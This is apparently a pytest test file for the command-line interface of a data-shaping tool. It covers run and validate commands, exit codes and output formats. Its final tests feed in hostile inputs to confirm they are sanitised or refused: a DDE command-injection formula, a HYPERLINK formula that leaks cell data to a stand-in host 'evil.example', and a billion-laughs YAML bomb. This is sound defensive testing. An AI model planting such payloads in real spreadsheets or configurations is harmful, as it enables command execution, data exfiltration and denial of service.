"""`python -m shapeshift run|validate` (exit codes 0 / 1 / 2)."""

from __future__ import annotations

import json
import os
import pathlib
import subprocess
import sys

import pandas as pd
import pytest

from shapeshift.cli import main
from tests.shapeshift.engine_support import ARBODAT, SURVEY_CSV, needs_arbodat

ROOT = pathlib.Path(__file__).resolve().parents[2]

CONFIG = """
entities:
  survey:
    type: csv
    options: {filename: survey.csv, sep: ";"}
    columns: [site, site_name, sample, taxon, count]
  site:
    source: survey
    surrogate_id: site_id
    keys: [site]
    columns: [site, site_name]
    drop_duplicates: true
"""


@pytest.fixture
def project(ws):
    ws.write("survey.csv", SURVEY_CSV)
    return ws.config(CONFIG)


def test_run_writes_one_csv_per_entity(project, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["run", str(project), "--out", str(out)]) == 0
    assert sorted(p.name for p in out.iterdir()) == ["site.csv", "survey.csv", "table_shapes.tsv"]
    assert (out / "site.csv").read_text() == "system_id,site_id,site,site_name\n1,,S1,Alpha\n2,,S2,Beta\n"
    assert "success   site 2 rows" in capsys.readouterr().out


@pytest.mark.parametrize("fmt, suffix", [("json", "site.json"), ("xlsx", "config.xlsx")])
def test_run_other_formats(project, tmp_path, fmt, suffix):
    out = tmp_path / "out"
    assert main(["run", str(project), "--out", str(out), "--format", fmt]) == 0
    assert (out / suffix).exists()
    if fmt == "json":
        assert json.loads((out / "site.json").read_text())[0]["site"] == "S1"
    else:
        assert pd.read_excel(out / suffix, sheet_name="site")["site"].tolist() == ["S1", "S2"]


def test_run_entities_and_max_rows(project, tmp_path):
    out = tmp_path / "out"
    assert main(["run", str(project), "--out", str(out), "--entities", "site", "--max-rows", "1"]) == 0
    assert pd.read_csv(out / "site.csv")["site"].tolist() == ["S1"]


def test_run_exit_1_when_an_entity_fails(ws, tmp_path):
    config = ws.config("entities:\n  a: {type: csv, columns: [x], options: {filename: gone.csv}}\n")
    assert main(["run", str(config), "--out", str(tmp_path / "out")]) == 1


def test_exit_2_for_invalid_configuration_and_usage(ws, tmp_path, project):
    broken = ws.config("entities: [\n", "broken.yml")
    assert main(["run", str(broken), "--out", str(tmp_path / "o")]) == 2
    assert main(["validate", str(broken)]) == 2
    assert main(["run", str(project)]) == 2  # --out missing
    assert main(["run", str(project), "--out", str(tmp_path / "o"), "--entities", "nope"]) == 2
    assert main(["run", str(project), "--out", str(tmp_path / "o"), "--input", "x.csv"]) == 2
    invalid = ws.config("entities:\n  a: {keys: [k], foreign_keys: [{local_keys: [k]}]}\n", "invalid.yml")
    assert main(["validate", str(invalid)]) == 2
    assert main(["run", str(invalid), "--out", str(tmp_path / "o")]) == 2


def test_validate_ok_and_json(project, capsys):
    assert main(["validate", str(project)]) == 0
    assert main(["validate", str(project), "--json"]) == 0
    assert isinstance(json.loads(capsys.readouterr().out.split("\n", 1)[1] or "[]"), list)


@pytest.mark.slow
@needs_arbodat
def test_module_entry_point_default_entity_variant(tmp_path):
    out_a, out_b = tmp_path / "a", tmp_path / "b"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    first = subprocess.run(
        [
            sys.executable,
            "-m",
            "shapeshift",
            "run",
            str(ARBODAT / "reduced-arbodat.yml"),
            "--out",
            str(out_a),
        ],
        env=env,
        capture_output=True,
        text=True,
    )
    assert first.returncode == 0, first.stderr
    second = subprocess.run(
        [
            sys.executable,
            "-m",
            "shapeshift",
            "run",
            str(ARBODAT / "reduced-arbodat.default-entity.yml"),
            "--out",
            str(out_b),
            "--input",
            str(ARBODAT / "survey.csv"),
            "--default-entity",
            "survey",
        ],
        env=env,
        capture_output=True,
        text=True,
    )
    assert second.returncode == 0, second.stderr
    files = sorted(p.name for p in out_a.iterdir())
    assert len(files) == 56 and files == sorted(p.name for p in out_b.iterdir())
    for name in files:
        assert (out_a / name).read_bytes() == (out_b / name).read_bytes(), name


def test_help_exits_0(capsys):
    assert main(["--help"]) == 0
    assert "run" in capsys.readouterr().out


def test_run_input_default_entity_translate_drop_foreign_keys(ws, tmp_path):
    ws.write("tr.tsv", "arbodat_field\tenglish_column_name\nsite_name\tname_of_site\n")
    survey = ws.write("input.csv", "site;site_name;kind\nS1;Alpha;a\nS2;Beta;b\n")
    config = ws.config("""
    entities:
      kind: {surrogate_id: kind_id, keys: [kind], columns: [kind], drop_duplicates: true}
      site:
        surrogate_id: site_id
        keys: [site]
        columns: [site, site_name]
        foreign_keys: [{entity: kind, local_keys: [kind], remote_keys: [kind]}]
    translation: "@load: options.translations"
    options:
      translations: {filename: tr.tsv, delimiter: "\\t"}
    """)
    out = tmp_path / "out"
    argv = ["run", str(config), "--out", str(out), "--input", str(survey), "--default-entity", "survey"]
    assert main(argv + ["--translate", "--drop-foreign-keys"]) == 0
    site = pd.read_csv(out / "site.csv")
    assert list(site.columns) == ["system_id", "site_id", "kind_id", "name_of_site", "site"]
    assert (out / "survey.csv").exists()


HOSTILE_CONFIG = """
entities:
  "=cmd|' /C calc'!A0":
    type: csv
    options: {filename: notes.csv, dtype: str, keep_default_na: false}
    columns: ["id", "text", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
  "a/b":
    source: "=cmd|' /C calc'!A0"
    columns: [id]
"""


def test_run_xlsx_writes_text_as_text_and_cuts_cells_excel_cannot_hold(ws, tmp_path, capsys):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
    header = '"' + formula.replace('"', '""') + '"'
    ws.write("notes.csv", f"id,text,{header}\n1,{'a' * 40_000},=1+1\n2,#N/A,bell \x07 rings\n")
    out = tmp_path / "out"

    assert main(["run", str(ws.config(HOSTILE_CONFIG)), "--out", str(out), "--format", "xlsx"]) == 0

    workbook = load_workbook(out / "config.xlsx")
    assert [sheet.title for sheet in workbook.worksheets] == ["=cmd|' _C calc'!A0", "a_b"]
    formulas = [c.coordinate for s in workbook for row in s.iter_rows() for c in row if c.data_type in "fe"]
    assert formulas == []
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert sorted(rows[0]) == sorted(["id", "text", formula])
    assert (first[formula], second["text"], second[formula]) == ("=1+1", "#N/A", "bell  rings")
    assert len(first["text"]) == 32_767
    assert first["text"].endswith("… [truncated: 40,000 characters]")
    assert "1 cell cut to Excel's 32,767 characters" in capsys.readouterr().out


BILLION_LAUGHS = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "text, message",
    [
        (BILLION_LAUGHS, "bomb.yml:6: YAML alias expansion exceeds 250,000 nodes"),
        (
            "entities:\n  x:\n    columns: " + "[" * 500 + "]" * 500 + "\n",
            "bomb.yml:3: nesting deeper than 64 levels",
        ),
    ],
    ids=["billion-laughs", "500-levels"],
)
def test_validate_refuses_hostile_yaml_with_exit_2_and_no_traceback(tmp_path, text, message):
    (tmp_path / "bomb.yml").write_text(text, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}

    done = subprocess.run(
        [sys.executable, "-m", "shapeshift", "validate", str(tmp_path / "bomb.yml")],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )

    assert done.returncode == 2
    assert done.stderr.startswith(f"invalid configuration: {message}")
    assert "Traceback" not in done.stderr
